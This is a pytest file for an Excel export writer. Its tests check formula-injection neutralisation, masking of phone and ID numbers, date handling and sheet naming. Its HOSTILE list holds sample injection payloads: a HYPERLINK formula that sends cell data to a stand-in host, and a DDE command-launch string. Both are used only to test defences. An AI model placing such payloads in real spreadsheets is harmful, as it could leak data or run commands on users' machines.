"""The one Excel writer: hostile text stays text, numbers are masked, dates are dates."""

from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO

import pytest
from openpyxl import load_workbook

from residents.spreadsheet import Sheet, content_disposition, workbook_response, write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "  =1+1",
]


def open_sheet(sheets, index=0):
    return load_workbook(BytesIO(write_workbook(sheets))).worksheets[index]


def cells(ws):
    return [cell for row in ws.iter_rows() for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_it_stores_a_formula_like_value_as_literal_text(value):
    ws = open_sheet([Sheet("t", ["Content"], [[value]])])
    cell = ws["A2"]
    assert (cell.data_type, cell.value) == ("s", value.replace("\r", ""))


@pytest.mark.parametrize("value", HOSTILE)
def test_it_marks_a_formula_like_value_with_the_quote_prefix(value):
    ws = open_sheet([Sheet("t", ["Content"], [[value]])])
    assert ws["A2"].quotePrefix


def test_it_writes_no_formula_cell_at_all_for_hostile_rows():
    ws = open_sheet([Sheet("t", ["=h", "+h"], [HOSTILE, list(reversed(HOSTILE))])])
    assert [c.coordinate for c in cells(ws) if c.data_type == "f"] == []


def test_it_removes_control_characters_but_keeps_line_breaks_and_tabs():
    ws = open_sheet([Sheet("t", ["Content"], [["漏\x08水\x00了\x1b\x7f\n二楼\t三楼"]])])
    assert ws["A2"].value == "漏水了\n二楼\t三楼"


def test_it_masks_a_mobile_number_inside_text():
    ws = open_sheet([Sheet("t", ["Content"], [["请回电 138-0013-8000 王阿姨"]])])
    assert "0013" not in ws["A2"].value


def test_it_masks_an_id_number_inside_text():
    ws = open_sheet([Sheet("t", ["Content"], [["身份证11010519491231002X"]])])
    assert "19491231" not in ws["A2"].value


def test_it_leaves_numbers_unmasked_only_in_an_unmasked_sheet():
    ws = open_sheet([Sheet("t", ["Phone"], [["13800138000"]], masked=False)])
    assert ws["A2"].value == "13800138000"


def test_it_writes_a_date_as_a_date_cell():
    ws = open_sheet([Sheet("t", ["Day"], [[date(2026, 12, 1)]])])
    assert (ws["A2"].is_date, ws["A2"].value.date(), ws["A2"].number_format) == (True, date(2026, 12, 1), "yyyy-mm-dd")


def test_it_writes_an_aware_datetime_in_local_time_without_a_zone(settings):
    settings.TIME_ZONE = "Asia/Shanghai"
    ws = open_sheet([Sheet("t", ["At"], [[datetime(2026, 12, 1, 1, 30, tzinfo=UTC)]])])
    assert (ws["A2"].is_date, ws["A2"].value) == (True, datetime(2026, 12, 1, 9, 30))


def test_it_keeps_numbers_and_booleans_as_they_are():
    ws = open_sheet([Sheet("t", ["a", "b", "c", "d", "e"], [[3, 1.5, Decimal("2.25"), True, None]])])
    assert [c.value for c in ws[2]] == [3, 1.5, 2.25, True, None]


def test_it_bolds_and_freezes_the_header_row():
    ws = open_sheet([Sheet("t", ["Number"], [])])
    assert (ws["A1"].font.bold, ws.freeze_panes) == (True, "A2")


def test_it_sets_the_given_column_widths():
    ws = open_sheet([Sheet("t", ["a", "b"], [], widths=[12, 40])])
    assert (ws.column_dimensions["A"].width, ws.column_dimensions["B"].width) == (12, 40)


def test_it_sanitises_a_sheet_title_excel_would_refuse():
    ws = open_sheet([Sheet("2026/12 [民情]:*?\\日记台账很长很长很长很长很长很长很长很长很长很长很长", ["a"], [])])
    assert (len(ws.title) <= 31, set(ws.title) & set("[]:*?/\\")) == (True, set())


def test_it_gives_two_sheets_with_the_same_title_distinct_names():
    wb = load_workbook(BytesIO(write_workbook([Sheet("台账", ["a"], []), Sheet("台账", ["a"], [])])))
    assert len(set(wb.sheetnames)) == 2


def test_it_names_the_download_in_chinese_with_an_ascii_fallback():
    assert content_disposition("民情日记台账_20261201.xlsx") == (
        'attachment; filename="export-20261201.xlsx"; '
        "filename*=UTF-8''%E6%B0%91%E6%83%85%E6%97%A5%E8%AE%B0%E5%8F%B0%E8%B4%A6_20261201.xlsx"
    )


def test_it_answers_an_xlsx_download():
    response = workbook_response(sheets=[Sheet("t", ["a"], [["x"]])], filename="台账_20261201.xlsx")
    assert (response["Content-Type"], response["Content-Disposition"].startswith("attachment;")) == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        True,
    )


def test_it_writes_a_time_to_the_second_without_its_microseconds():
    """A saved now() came out as 2026-12-01 08:30:12.345678 in the formula bar and in a CSV."""
    ws = open_sheet([Sheet("t", ["Received"], [[datetime(2026, 12, 1, 0, 30, 12, 345678, tzinfo=UTC)]])])
    assert ws["A2"].value == datetime(2026, 12, 1, 8, 30, 12)


def test_it_shortens_a_long_sheet_title_at_a_word_not_inside_one():
    ws = open_sheet([Sheet("Visits to the special population", ["a"], [])])
    assert ws.title == "Visits to the special"


def test_it_drops_a_bracketed_aside_before_cutting_a_sheet_title():
    ws = open_sheet([Sheet("Residents' issues of the month (民情日记)", ["a"], [])])
    assert ws.title == "Residents' issues of the month"


def test_it_gives_two_long_titles_that_shorten_alike_distinct_whole_word_names():
    wb = load_workbook(
        BytesIO(
            write_workbook(
                [
                    Sheet("Visits to the special population 2026-11", ["a"], []),
                    Sheet("Visits to the special population 2026-12", ["a"], []),
                ]
            )
        )
    )
    assert wb.sheetnames == ["Visits to the special", "Visits to the special (2)"]


def test_it_cuts_a_chinese_sheet_title_without_spaces_at_31_characters():
    ws = open_sheet([Sheet("福" * 40, ["a"], [])])
    assert ws.title == "福" * 31


def test_it_writes_a_sheets_caption_as_a_bold_first_row_above_the_headers():
    ws = open_sheet([Sheet("t", ["Number"], [["x"]], caption="福海佳园 · 月度报表 · 2026年11月")])
    assert [(c.value, c.font.bold) for c in ws["A"]] == [
        ("福海佳园 · 月度报表 · 2026年11月", True),
        ("Number", True),
        ("x", False),
    ]


def test_it_freezes_the_caption_with_the_header_row():
    assert open_sheet([Sheet("t", ["Number"], [], caption="福海佳园")]).freeze_panes == "A3"


@pytest.mark.parametrize("value", HOSTILE)
def test_it_keeps_a_formula_like_caption_literal_text(value):
    cell = open_sheet([Sheet("t", ["Content"], [], caption=value)])["A1"]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_it_masks_a_number_in_a_caption():
    assert "13800138000" not in open_sheet([Sheet("t", ["a"], [], caption="联系 13800138000")])["A1"].value


def test_it_sets_the_workbooks_title():
    book = load_workbook(BytesIO(write_workbook([Sheet("t", ["a"], [])], title="福海佳园 · 月度报表 · 2026年11月")))
    assert book.properties.title == "福海佳园 · 月度报表 · 2026年11月"


def test_it_uses_the_given_ascii_fallback_name():
    disposition = content_disposition("月度报表_福海佳园_2026-11.xlsx", fallback="monthly-report-c7-2026-11.xlsx")
    assert disposition.startswith("attachment; filename=\"monthly-report-c7-2026-11.xlsx\"; filename*=UTF-8''")


def test_it_fits_a_sheets_columns_to_their_longest_value_between_10_and_40():
    rows = [("期末超时未办结事项", 3, "x" * 60), ("a", date(2026, 11, 1))]
    ws = open_sheet([Sheet("t", ["指标", "数值", "备注"], rows, fit=True, caption="福海佳园 · 月度报表 · 2026年11月")])
    widths = [ws.column_dimensions[letter].width for letter in "ABC"]
    assert widths == [2 * 9 + 2, 12, 40]
    written = [list(row) for row in ws.iter_rows(min_row=3, values_only=True)]
    assert written == [["期末超时未办结事项", 3, "x" * 60], ["a", datetime(2026, 11, 1), None]]


def test_it_keeps_a_sheet_not_fitted_as_wide_as_its_headers():
    ws = open_sheet([Sheet("t", ["指标", "a long english header"], [("期末超时未办结事项", 1)])])
    assert (ws.column_dimensions["A"].width, ws.column_dimensions["B"].width) == (10, 23)


def test_it_masks_a_number_in_the_workbooks_title_property_as_in_its_cells():
    book = load_workbook(BytesIO(write_workbook([Sheet("表", ["姓名"], [["王"]])], title="王阿姨 13800138000")))
    assert book.properties.title == "王阿姨 138****8000"
